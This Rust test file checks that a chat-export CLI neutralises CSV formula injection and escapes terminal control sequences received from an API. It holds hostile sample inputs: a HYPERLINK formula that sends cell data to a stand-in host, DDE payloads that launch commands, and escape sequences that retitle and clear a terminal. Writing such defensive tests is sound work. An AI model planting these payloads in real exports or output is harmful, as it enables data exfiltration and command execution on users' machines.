//! Text from the API is data, never a command: CSV cells a spreadsheet would evaluate are
//! neutralised (`--csv-raw` keeps them), and control characters never reach a terminal raw.

use crate::common::{api_args, chats, giosg, run, temp_dir, Run};
use giosg_async::{Chat, ChatLog, ShoppingCart, Tag};
use giosg_mock::MockServer;
use std::io::{Read, Write};
use std::net::{TcpListener, TcpStream};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;

/// What visitors and operators can type, each a formula to a spreadsheet.
const FORMULAS: [&str; 6] = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
];

/// Generated chats whose every text field from the API holds a formula.
fn hostile_chats() -> Vec<Chat> {
    let mut chats = giosg_mock::generate(24, 6);
    for (i, chat) in chats.iter_mut().enumerate() {
        let formula = FORMULAS[i % FORMULAS.len()].to_owned();
        chat.start_url = Some(formula.clone());
        chat.start_url_title = Some(formula.clone());
        chat.token = Some(formula.clone());
        chat.tags = vec![Tag::new(formula.clone())];
        let mut log = ChatLog::new();
        log.message = Some(formula.clone());
        log.display_name = Some(formula.clone());
        log.sender_id = Some(formula);
        chat.logs.insert(0, log);
    }
    chats
}

/// The records of a CSV text, header first, as the `csv` crate reads them.
fn cells(text: &str) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect()
}

/// Whether a spreadsheet would evaluate this cell: it begins with one of OWASP's characters.
fn is_formula(cell: &str) -> bool {
    cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
}

/// The value of `column` in each row of a CSV with a header.
fn column<'a>(rows: &'a [Vec<String>], column: &str) -> Vec<&'a str> {
    let at = rows[0].iter().position(|c| c == column).unwrap();
    rows[1..].iter().map(|r| r[at].as_str()).collect()
}

#[test]
fn exported_csv_cells_are_never_formulas_to_a_spreadsheet() {
    let served = hostile_chats();
    let mock = MockServer::builder().chats(served.clone()).start().unwrap();
    let dir = temp_dir("csv-injection");
    for (name, extra) in [("chats", &[][..]), ("messages", &["--csv-logs"][..])] {
        let file = dir.join(format!("{name}.csv"));
        let mut args = vec!["--out", file.to_str().unwrap(), "--format", "csv"];
        args.extend_from_slice(extra);
        run(&mut chats(&mock, "export", &args)).ok();
        let rows = cells(&std::fs::read_to_string(&file).unwrap());
        assert!(rows.len() > 1, "{name}");
        for row in &rows {
            for cell in row {
                assert!(!is_formula(cell), "{name}: a formula cell {cell:?}");
            }
        }
        // What a spreadsheet shows: the text as sent, after a ' that marks it as text.
        let (id_column, text_columns): (&str, &[&str]) = if extra.is_empty() {
            ("id", &["start_url", "start_url_title", "token", "tags"])
        } else {
            ("chat_id", &["sender_id", "display_name", "message"])
        };
        let ids = column(&rows, id_column);
        let first = if extra.is_empty() {
            vec!["0"; ids.len()]
        } else {
            column(&rows, "log_index")
        };
        let mut seen = 0;
        for text_column in text_columns {
            for ((id, index), cell) in ids.iter().zip(&first).zip(column(&rows, text_column)) {
                if *index != "0" {
                    continue; // a generated message, not a hostile one
                }
                let chat = served.iter().find(|c| c.id.to_string() == *id).unwrap();
                let sent = chat.start_url.as_deref().unwrap();
                assert_eq!(cell, format!("'{sent}"), "{name} {text_column}");
                seen += 1;
            }
        }
        assert_eq!(seen, served.len() * text_columns.len(), "{name}");
    }
}

#[test]
fn csv_raw_writes_text_cells_as_the_api_sent_them() {
    let served = hostile_chats();
    let mock = MockServer::builder().chats(served.clone()).start().unwrap();
    let neutral = run(&mut chats(&mock, "list", &["--format", "csv"]))
        .ok()
        .to_owned();
    let raw = run(&mut chats(&mock, "list", &["--format", "csv", "--csv-raw"]))
        .ok()
        .to_owned();
    let (neutral, raw) = (cells(&neutral), cells(&raw));
    assert_eq!(column(&neutral, "id"), column(&raw, "id"));
    let served_urls: Vec<&str> = served
        .iter()
        .map(|c| c.start_url.as_deref().unwrap())
        .collect();
    let mut raw_urls = column(&raw, "start_url");
    let mut neutral_urls = column(&neutral, "start_url");
    raw_urls.sort_unstable();
    neutral_urls.sort_unstable();
    let mut expected = served_urls.clone();
    expected.sort_unstable();
    assert_eq!(raw_urls, expected);
    let quoted: Vec<String> = expected.iter().map(|u| format!("'{u}")).collect();
    assert_eq!(neutral_urls, quoted);
    // `--csv-raw` alone means csv; with another --format it is refused.
    let logs = run(&mut chats(&mock, "list", &["--csv-logs", "--csv-raw"]))
        .ok()
        .to_owned();
    let messages = cells(&logs);
    assert!(column(&messages, "message").contains(&FORMULAS[0]));
    let refused = run(&mut chats(
        &mock,
        "list",
        &["--format", "jsonl", "--csv-raw"],
    ));
    assert!(
        refused.fails(2).contains("--csv-raw needs --format csv"),
        "{}",
        refused.stderr
    );
}

/// What retitles and clears a terminal: `ESC ] 0 ; PWNED-TITLE BEL ESC [ 2 J`.
const TERMINAL_ATTACK: &str = "\u{1b}]0;PWNED-TITLE\u{7}\u{1b}[2J";

/// The attack as a JSON string's content (JSON escapes control characters).
const TERMINAL_ATTACK_JSON: &str = r"\u001b]0;PWNED-TITLE\u0007\u001b[2J";

/// The attack as the terminal is shown it: escaped, harmless.
const TERMINAL_ATTACK_SHOWN: &str = r"\u{1b}]0;PWNED-TITLE\u{7}\u{1b}[2J";

/// Asserts that neither stdout nor stderr holds a raw ESC or BEL.
fn assert_no_raw_controls(out: &Run, context: &str) {
    for (name, text) in [("stdout", &out.stdout), ("stderr", &out.stderr)] {
        assert!(
            !text.contains(['\u{1b}', '\u{7}', '\u{9b}']),
            "{context}: a raw control character on {name}: {text:?}"
        );
    }
}

/// A local HTTP server that answers every request with one status and body, until dropped.
struct Hostile {
    base_url: String,
    stop: Arc<AtomicBool>,
    thread: Option<std::thread::JoinHandle<()>>,
}

impl Hostile {
    fn serve(status: u16, body: &str) -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let base_url = format!("http://{}", listener.local_addr().unwrap());
        let stop = Arc::new(AtomicBool::new(false));
        let response = format!(
            "HTTP/1.1 {status} Hostile\r\nContent-Type: application/json\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
            body.len()
        );
        let stopping = Arc::clone(&stop);
        let thread = std::thread::spawn(move || {
            for stream in listener.incoming() {
                if stopping.load(Ordering::SeqCst) {
                    break;
                }
                let Ok(mut stream) = stream else { continue };
                let mut request = Vec::new();
                let mut byte = [0u8; 1];
                while !request.ends_with(b"\r\n\r\n") && matches!(stream.read(&mut byte), Ok(1)) {
                    request.push(byte[0]);
                }
                let _ = stream.write_all(response.as_bytes());
            }
        });
        Hostile {
            base_url,
            stop,
            thread: Some(thread),
        }
    }

    /// `giosg chats <sub>` against this server, one attempt per request.
    fn run(&self, sub: &str) -> Run {
        let mut cmd = giosg(["chats", sub, "--max-attempts", "1", "--org"]);
        cmd.arg("7f9e9580-095b-42c7-838c-c04e667b26f7")
            .arg("--base-url")
            .arg(&self.base_url)
            .env("GIOSG_API_TOKEN", "t");
        run(&mut cmd)
    }
}

impl Drop for Hostile {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::SeqCst);
        // Wake the accept loop so that it sees the flag.
        let _ = TcpStream::connect(self.base_url.trim_start_matches("http://"));
        if let Some(thread) = self.thread.take() {
            let _ = thread.join();
        }
    }
}

#[test]
fn error_details_from_the_server_never_drive_the_terminal() {
    let detail = format!(r#"{{"detail": "{TERMINAL_ATTACK_JSON}"}}"#);
    let fields =
        format!(r#"{{"tag": ["{TERMINAL_ATTACK_JSON}"], "{TERMINAL_ATTACK_JSON}": ["bad"]}}"#);
    let undecodable = format!(r#"{{"count": "{TERMINAL_ATTACK_JSON}", "results": []}}"#);
    let plain = TERMINAL_ATTACK.to_owned();
    // Status, body, exit code, and whether the message quotes the server's text.
    let cases: [(u16, &str, i32, bool); 8] = [
        (400, &detail, 4, true),
        (400, &fields, 4, true),
        (401, &detail, 3, true),
        (403, &detail, 3, true),
        (404, &detail, 4, true),
        (503, &detail, 4, true),
        (502, &plain, 4, false),
        (200, &undecodable, 6, true),
    ];
    for (status, body, code, quoted) in cases {
        let server = Hostile::serve(status, body);
        for sub in ["list", "summary"] {
            let out = server.run(sub);
            let context = format!("{sub}, HTTP {status} {body:?}");
            assert_eq!(out.code, code, "{context}: {}", out.stderr);
            assert_no_raw_controls(&out, &context);
            assert!(
                !quoted || out.stderr.contains("PWNED-TITLE"),
                "{context}: the text is still shown: {}",
                out.stderr
            );
        }
    }
    let server = Hostile::serve(403, &detail);
    let line = server.run("list").fails(3).to_owned();
    assert!(line.contains(TERMINAL_ATTACK_SHOWN), "{line}");
}

#[test]
fn tags_and_currencies_never_drive_the_terminal() {
    let mut served = giosg_mock::generate(25, 4);
    for chat in &mut served {
        chat.tags.push(Tag::new(TERMINAL_ATTACK));
        let mut cart = ShoppingCart::new();
        cart.currency = Some(TERMINAL_ATTACK.to_owned());
        cart.total_price = Some("12.50".parse().unwrap());
        cart.locked_at = chat.start_time;
        chat.shopping_carts.push(cart);
    }
    let mock = MockServer::builder().chats(served).start().unwrap();
    let table = run(&mut chats(&mock, "list", &["--format", "table"]));
    table.ok();
    assert_no_raw_controls(&table, "list --format table");
    assert!(table.stdout.contains(r"\u{1b}]0;PWNED"), "{}", table.stdout);

    let summary = run(&mut chats(&mock, "summary", &[]));
    summary.ok();
    assert_no_raw_controls(&summary, "summary");
    assert!(
        summary
            .stdout
            .contains(&format!("50.00 {TERMINAL_ATTACK_SHOWN}")),
        "{}",
        summary.stdout
    );

    // The database keeps the text as sent; its summary shows it escaped.
    let dir = temp_dir("terminal-db");
    let db = dir.join("chats.db");
    let db = db.to_str().unwrap();
    run(&mut chats(&mock, "sync", &["--db", db])).ok();
    let mut offline = giosg(["chats", "summary", "--db", db]);
    offline.args(api_args(&mock));
    let offline = run(&mut offline);
    offline.ok();
    assert_no_raw_controls(&offline, "summary --db");
    assert_eq!(offline.stdout, summary.stdout);
}
